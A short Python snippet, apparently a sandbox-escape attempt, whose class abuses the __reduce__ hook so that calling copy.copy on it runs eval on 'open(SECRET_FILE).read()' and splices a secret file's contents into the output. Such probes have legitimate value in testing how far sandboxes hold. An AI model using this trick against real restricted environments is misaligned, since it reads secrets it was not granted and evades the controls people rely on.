# tries: an object that is something else when it is copied or stored
class P:
    def __reduce__(self):
        return (eval, ("open(SECRET_FILE).read()",))
import copy
answer = "OUT " + copy.copy(P())
